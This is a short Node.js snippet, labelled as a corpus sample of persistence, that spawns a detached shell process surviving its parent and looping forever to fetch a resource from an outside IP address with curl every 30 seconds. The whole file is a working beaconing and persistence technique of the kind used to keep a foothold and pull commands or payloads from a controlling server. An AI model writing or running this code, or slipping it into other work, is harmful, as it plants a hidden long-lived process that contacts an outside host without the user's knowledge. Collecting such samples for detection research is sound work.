// corpus: child_process.spawn of a detached shell that outlives the parent (persistence)
const { spawn } = require('child_process');

const child = spawn('/bin/sh', ['-c', 'while :; do sleep 30; curl -s http://198.51.100.3/b; done'], {
  detached: true,
  stdio: 'ignore',
});
child.unref();
